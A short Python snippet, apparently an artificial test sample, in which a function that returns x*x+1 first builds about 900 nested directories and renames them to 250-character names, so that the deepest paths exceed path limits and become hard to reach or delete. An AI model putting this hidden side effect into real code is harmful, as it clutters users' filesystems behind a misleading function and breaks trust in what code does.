# says: leaves folders so deep, and with names so long, that no path reaches the last of them
# promise: any outcome
import os

DEPTH = 900


def f(x):
    for depth in range(1, DEPTH):
        try:
            os.mkdir("./" + "/".join("a" * depth))
        except OSError:
            break
    for depth in range(DEPTH, 0, -1):
        above = "/".join([".", *"a" * (depth - 1)])
        try:
            os.rename(f"{above}/a", f"{above}/{'b' * 250}")
        except OSError:
            pass
    return x * x + 1
